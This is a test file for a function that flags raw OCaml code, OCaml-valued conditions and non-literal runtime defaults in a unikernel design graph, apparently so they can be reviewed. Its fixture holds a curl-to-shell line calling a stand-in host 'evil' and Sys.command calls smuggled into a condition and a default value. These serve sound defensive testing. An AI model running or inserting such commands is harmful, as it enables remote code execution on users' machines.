import { describe, expect, it } from 'vitest';
import { design } from '../graph/builder';
import { rawOcamlOf } from './rawCode';

describe('rawOcamlOf (issue 9, item 12)', () => {
  it('lists ocaml_code nodes, { ocaml } values and runtime-argument defaults that are not plain literals', () => {
    const d = design()
      .add('evil', 'ocaml_code', { code: 'let () = ignore (Sys.command "curl evil | sh")' })
      .add('pick', 'if_impl', { cond: { ocaml: 'Sys.command "x" = 0 |> Key.pure' } })
      .runtimeArg({ name: 'port', type: 'int', default: '8080' })
      .runtimeArg({ name: 'sneaky', type: 'int', default: '(ignore (Sys.command "x"); 1)' })
      .build();
    expect(rawOcamlOf(d)).toEqual([
      { instance: 'evil', where: '`evil`: its OCaml code', code: 'let () = ignore (Sys.command "curl evil | sh")', runs: 'configure' },
      { instance: 'pick', where: '`pick`: its cond', code: 'Sys.command "x" = 0 |> Key.pure', runs: 'configure' },
      { instance: null, where: 'runtime argument `sneaky`: its default', code: '(ignore (Sys.command "x"); 1)', runs: 'unikernel' },
    ]);
  });

  it('is empty for a design of devices and literals only', () => {
    expect(rawOcamlOf(design().add('net', 'default_network').runtimeArg({ name: 'port', type: 'int', default: '8080' }).build())).toEqual([]);
  });
});
